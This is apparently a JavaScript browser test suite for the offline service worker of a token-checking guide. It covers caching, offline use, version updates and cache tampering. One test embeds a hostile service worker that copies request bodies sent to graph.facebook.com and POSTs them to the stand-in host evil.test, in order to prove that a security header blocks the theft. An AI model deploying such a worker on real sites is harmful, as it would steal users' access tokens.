// Times without a network, and the worker that keeps the guide for them.

import assert from "node:assert/strict";
import { cp, mkdir, readFile, rm, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { setTimeout as wait } from "node:timers/promises";
import { place } from "../../src/release/place.mjs";
import { serveGuide } from "./embed-stage.mjs";
import { setStage } from "./stage.mjs";
import { randomToken } from "./token.mjs";

let stage;
before(async () => {
  stage = await setStage();
});
after(() => stage?.close());

/** Opens the guide on a host and waits until the browser keeps it; gives the guide as it is opened then. */
async function kept(t, { host = "app.test", path = "/" } = {}) {
  const guide = await stage.visit(t, path, { host });
  await guide.seeKept();
  await guide.page.reload();
  await guide.page.waitForFunction(() => navigator.serviceWorker.controller);
  await guide.page.locator("main[data-screen]").waitFor();
  return guide;
}

const caches = (guide) => guide.page.evaluate(async () => (await caches.keys()).sort());

/** Waits until the browser keeps so many releases. */
async function seeCaches(guide, count) {
  for (let tries = 0; tries < 100; tries += 1) {
    // A page that is just being loaded again cannot say.
    const names = await caches(guide).catch(() => undefined);
    if (names?.length === count) return;
    await wait(50);
  }
  assert.equal((await caches(guide)).length, count);
}
const cutNetwork = (guide) => guide.page.context().setOffline(true);

test("what is kept is this release, and nothing that a person did", async (t) => {
  const guide = await kept(t);
  const names = await caches(guide);
  assert.equal(names.length, 1);
  const addresses = await guide.page.evaluate(
    async (name) => (await (await caches.open(name)).keys()).map(({ url }) => url),
    names[0],
  );
  const paths = addresses.map((address) => new URL(address).pathname);
  assert.ok(paths.includes("/") && paths.includes("/config.json"));
  assert.ok(
    paths.every((path) => /^\/(?:$|config\.json$|manifest\.webmanifest$|assets\/)/.test(path)),
    paths.join(),
  );
  t.diagnostic(`${paths.length} files`);
});

test("without a network the whole guide, practice, the paste field and reports work, in every language", async (t) => {
  const guide = await kept(t);
  await cutNetwork(guide);
  const started = performance.now();
  await guide.page.reload();
  await guide.seeScreen("start");
  t.diagnostic(`the start screen came after ${Math.round(performance.now() - started)} ms with the network cut`);
  for (const language of ["es", "ar", "hi", "en"]) {
    await guide.open(`/?lang=${language}`);
    assert.equal(await guide.page.evaluate(() => document.documentElement.lang), language);
    assert.equal(await guide.page.locator("[data-reason]:visible").count(), 0);
  }
  await guide.open("/#/practice/good");
  await guide.page.reload();
  await guide.page.locator('[data-practice="good"]').waitFor();
  await guide.open("/?lang=en#/step/4");
  await guide.page.locator('[data-action="use-practice-token"], input[data-field=token]').first().waitFor();
  await guide.open("/#/report");
  await guide.page.locator('textarea[data-field="report"]').waitFor();
  await guide.open("/?theme=dark#/step/4");
  await guide.page.locator("html[data-seal=sealed]").waitFor();
  await guide.paste("12345678901");
  await guide.seePaste("phone-number");
});

test("a check says that it needs the network, and runs by itself when it is back, if it was asked to", async (t) => {
  const token = randomToken();
  await stage.graph.world("good", token);
  const guide = await kept(t, { path: "/#/step/4" });
  await guide.page.locator("html[data-seal=sealed]").waitFor();
  await guide.paste(token);
  await guide.seePaste("ok");
  await cutNetwork(guide);
  await guide.page.locator('[data-network="may-wait"]').waitFor();
  await guide.check();
  assert.equal(await guide.verdict(), "unproved");
  await guide.assertRow("connection", "fail/offline");
  assert.equal((await stage.graph.calls()).length, 0);

  await guide.page.context().setOffline(false);
  await guide.page.waitForTimeout(300);
  assert.equal((await stage.graph.calls()).length, 0, "nobody asked for it");
  await cutNetwork(guide);
  await guide.press("wait-for-network");
  await guide.page.locator('[data-network="waits"]').waitFor();
  await guide.press("stop-waiting");
  await guide.press("wait-for-network");
  await guide.page.context().setOffline(false);
  await guide.page.locator('[data-overall="ready"]').waitFor();
  assert.ok((await stage.graph.calls()).length > 0);
});

test("the worker answers for its own files only: no other host, no other method, not inside other pages", async (t) => {
  await serveGuide(stage);
  const guide = await kept(t, { host: "guide.example" });
  const others = ["version.json", "embed/", "sw.js?x", "assets/none.js"];
  const throughWorker = [];
  guide.page.on("response", (response) => {
    if (response.fromServiceWorker()) throughWorker.push(new URL(response.url()).pathname);
  });
  await guide.page.evaluate(
    async (paths) => {
      for (const path of paths) await fetch(path);
    },
    [...others, "config.json"],
  );
  const own = throughWorker.filter((path) => path === "/config.json" || others.includes(path.slice(1)));
  assert.deepEqual(own, ["/config.json"]);

  const before = stage.hosts.log.length;
  await cutNetwork(guide);
  for (const path of others) {
    const answered = await guide.page.evaluate(
      (path) =>
        fetch(path, { cache: "reload" }).then(
          () => true,
          () => false,
        ),
      path,
    );
    assert.equal(answered, false, path);
  }
  const posted = await guide.page.evaluate(() =>
    fetch("config.json", { method: "POST" }).then(
      () => true,
      () => false,
    ),
  );
  assert.equal(posted, false);
  const settings = await guide.page.evaluate(() =>
    fetch("config.json").then(
      ({ ok }) => ok,
      () => false,
    ),
  );
  assert.equal(settings, true, "this test can tell");
  assert.equal(stage.hosts.log.length, before);
});

/** A release that is new, but for its words the same. */
const release = (dir, mark) =>
  (async () => {
    const page = join(dir, "index.html");
    const html = await readFile(page, "utf8");
    await writeFile(page, html.replace(/<title>[^<]*<\/title>/, `<title>${mark}</title>`));
    await place(dir);
  })();

/** Serves the release so that a new one can be put in its place. */
async function serveNext(name) {
  let folder;
  await stage.serveChanged(name, async (dir) => {
    folder = dir;
  });
  return folder;
}

const update = (guide) =>
  guide.page.evaluate(async () => void (await (await navigator.serviceWorker.getRegistration()).update()));

test("a new version waits to be asked for, then takes over with one load", async (t) => {
  const folder = await serveNext("next.example");
  const guide = await kept(t, { host: "next.example" });
  let loads = 0;
  guide.page.on("load", () => {
    loads += 1;
  });
  await release(folder, "next");
  await update(guide);
  await guide.page.locator('[data-version="ready"]').waitFor();
  await guide.page.waitForTimeout(500);
  assert.equal(loads, 0, "nobody asked for it");
  assert.equal((await caches(guide)).length, 2);
  await guide.press("load-version");
  await seeCaches(guide, 1);
  await guide.page.locator("main[data-screen]").waitFor();
  await guide.page.waitForTimeout(700);
  assert.equal(loads, 1);
  await guide.page.waitForFunction(() => document.querySelector('[data-version="ready"]') === null);
});

test("while a token is held no new version is offered, and one that another tab asked for takes nothing away", async (t) => {
  const token = randomToken();
  await stage.graph.world("good", token);
  const folder = await serveNext("tabs.example");
  const busy = await kept(t, { host: "tabs.example", path: "/#/step/4" });
  await busy.page.locator("html[data-seal=sealed]").waitFor();
  assert.equal(await busy.checkPasted(token), "ready");
  const other = await busy.page.context().newPage();
  await other.goto("https://tabs.example/");
  await other.locator("main[data-screen]").waitFor();
  let loads = 0;
  busy.page.on("load", () => {
    loads += 1;
  });
  await release(folder, "next");
  await other.evaluate(async () => void (await (await navigator.serviceWorker.getRegistration()).update()));
  await other.locator('[data-version="ready"]').waitFor();
  await busy.page.waitForTimeout(300);
  assert.equal(await busy.page.locator('[data-version="ready"]').count(), 0);
  await other.locator('main [data-action="load-version"]').click();
  await busy.page.waitForTimeout(2500);
  assert.equal(loads, 0);
  assert.equal(await busy.verdict(), "ready");
  assert.equal(await busy.checkAgain(), "ready", "the token is still held, and a check runs to its end");
  await busy.press("forget");
  await busy.page.locator('[data-version="ready"]').waitFor();
  await other.close();
});

/** The host gives the platform another name. */
async function rename(folder) {
  const file = join(folder, "config.json");
  const settings = JSON.parse(await readFile(file, "utf8"));
  await writeFile(file, JSON.stringify({ ...settings, brand: { name: "Harbour Chat" } }));
}

test("what the host changes arrives at the next visit, as long as there is a network", async (t) => {
  const folder = await serveNext("changed.example");
  const guide = await kept(t, { host: "changed.example" });
  await rename(folder);
  const page = join(folder, "index.html");
  await writeFile(page, (await readFile(page, "utf8")).replace("</head>", '<meta name="changed"></head>'));
  await guide.page.reload();
  await guide.page.locator("main h1").getByText("Harbour Chat").waitFor();
  assert.equal(await guide.page.locator("meta[name=changed]").count(), 1);
  await cutNetwork(guide);
  await guide.page.reload();
  await guide.page.locator("main h1").getByText("eleapi").waitFor();
});

test("a platform without settings of its own has the guide without a network too", async (t) => {
  const folder = await serveNext("unset.example");
  await rm(join(folder, "config.json"));
  const guide = await kept(t, { host: "unset.example" });
  await cutNetwork(guide);
  await guide.page.reload();
  await guide.page.locator("main h1").getByText("eleapi").waitFor();
});

test("a network that does not answer is waited for a few seconds only", async (t) => {
  const guide = await kept(t);
  const held = stage.hosts.hold(/^\/$/);
  t.after(held.release);
  const started = performance.now();
  await guide.page.reload();
  await guide.seeScreen("start");
  const took = performance.now() - started;
  assert.ok(took > 2500 && took < 9500, `${Math.round(took)} ms`);
});

test("old settings are never used while there is a network", async (t) => {
  const folder = await serveNext("settings.example");
  const guide = await kept(t, { host: "settings.example" });
  await rename(folder);
  const held = stage.hosts.hold(/^\/config\.json$/);
  t.after(held.release);
  await guide.page.reload();
  await held.asked;
  await guide.page.waitForTimeout(4000);
  assert.equal(await guide.page.locator("main[data-screen]").count(), 0, "however long it takes");
  held.release();
  await guide.page.locator("main h1").getByText("Harbour Chat").waitFor();
  // The host is out of order.
  stage.hosts.put("https://settings.example/config.json", "Out of order", {}, 503);
  await guide.page.reload();
  await guide.page.locator("[data-reason]:visible").waitFor();
  assert.equal(await guide.page.locator("main[data-screen]").count(), 0);
});

test("wrong bytes in the cache are not used", async (t) => {
  const guide = await kept(t);
  const spoiled = await guide.page.evaluate(async () => {
    const [name] = await caches.keys();
    const cache = await caches.open(name);
    let count = 0;
    for (const request of await cache.keys()) {
      if (!/assets\/(?:boot|guide|main|en)/.test(request.url)) continue;
      await cache.put(request, new Response("spoiled", { headers: { "Content-Type": "text/javascript" } }));
      count += 1;
    }
    return count;
  });
  assert.ok(spoiled > 3);
  await guide.page.reload();
  await guide.seeScreen("start");
  await guide.page.waitForFunction(() => document.querySelector("#keeping"));
});

test("an installation that is cut short keeps nothing, and the page works all the same", async (t) => {
  await stage.serveChanged("short.example", async (dir) => {
    const worker = join(dir, "sw.js");
    const text = await readFile(worker, "utf8");
    await writeFile(worker, text.replace(/assets\/practice-\w+\.json/, "assets/practice-gone.json"));
  });
  const guide = await stage.visit(t, "/", { host: "short.example" });
  await guide.page.waitForFunction(() => document.querySelector("#keeping"));
  await guide.page.waitForTimeout(1500);
  assert.deepEqual(await caches(guide), []);
  assert.equal(
    await guide.page.evaluate(async () => (await navigator.serviceWorker.getRegistration())?.active ?? null),
    null,
  );
});

test("a hostile worker can send nothing away under the header of sw.js", async (t) => {
  const hostile = `addEventListener("install", () => skipWaiting());
    addEventListener("activate", (event) => event.waitUntil(clients.claim()));
    addEventListener("fetch", (event) => {
      if (event.request.url.includes("graph.facebook.com")) {
        const stolen = event.request.clone().text().then((body) => fetch("https://evil.test/steal", { method: "POST", mode: "no-cors", body }));
        event.waitUntil(stolen.catch(() => {}));
      }
    });`;
  const token = randomToken();
  const attack = async (host, header) => {
    await stage.serveChanged(host, async (dir) => {
      await writeFile(join(dir, "sw.js"), hostile);
      if (!header) {
        const headers = join(dir, "_headers");
        const text = await readFile(headers, "utf8");
        await writeFile(
          headers,
          text.replace(/(\/sw\.js\n {2}Content-Security-Policy: ).*/, "$1frame-ancestors 'none'"),
        );
      }
    });
    await stage.graph.world("good", token);
    const guide = await kept(t, { host, path: "/#/step/4" });
    await guide.page.locator("html[data-seal=sealed]").waitFor();
    await guide.checkPasted(token);
    await guide.page.waitForTimeout(300);
    return stage.hosts.log.filter(({ host, body }) => host === "evil.test" && body.includes(token)).length;
  };
  assert.equal(await attack("hostile.example", true), 0);
  assert.ok((await attack("unprotected.example", false)) > 0, "without the header it gets out: this test can tell");
});

test("a browser without workers or storage shows the guide all the same", async (t) => {
  const context = await stage.browser.newContext();
  t.after(() => context.close());
  const page = await context.newPage();
  await page.addInitScript(() => {
    Object.defineProperty(Navigator.prototype, "serviceWorker", { get: () => undefined });
    Object.defineProperty(window, "localStorage", {
      get() {
        throw new DOMException("denied", "SecurityError");
      },
    });
  });
  const errors = [];
  page.on("pageerror", (error) => errors.push(error.message));
  await page.goto("https://app.test/");
  await page.locator('[data-memory="denied"]').waitFor();
  assert.deepEqual(errors, []);
});

test("the guide works from a folder of a host, without a network too", async (t) => {
  const folder = await serveNext("folder.example");
  await mkdir(join(folder, "help/guide"), { recursive: true });
  for (const name of ["index.html", "config.json", "manifest.webmanifest", "sw.js", "assets", "embed"]) {
    await cp(join(folder, name), join(folder, "help/guide", name), { recursive: true });
    await rm(join(folder, name), { recursive: true });
  }
  const guide = await kept(t, { host: "folder.example", path: "/help/guide/" });
  await cutNetwork(guide);
  await guide.page.reload();
  await guide.seeScreen("start");
  assert.match((await caches(guide))[0], /^system-user-guide:\/help\/guide\/:/);
});

test("browsers offer to install it", async (t) => {
  const guide = await kept(t);
  const browser = await guide.page.context().newCDPSession(guide.page);
  const { installabilityErrors } = await browser.send("Page.getInstallabilityErrors");
  // A profile that ends with the test installs nothing, whatever the page.
  const errors = installabilityErrors.filter(({ errorId }) => errorId !== "in-incognito");
  assert.deepEqual(errors, []);
  const { url, errors: faults, data } = await browser.send("Page.getAppManifest");
  assert.equal(url, "https://app.test/manifest.webmanifest");
  assert.deepEqual(faults, []);
  for (const { src, sizes } of JSON.parse(data).icons) {
    const size = await guide.page.evaluate(async (src) => {
      const { width, height } = await createImageBitmap(await (await fetch(src)).blob());
      return `${width}x${height}`;
    }, src);
    assert.equal(size, sizes, src);
  }
});
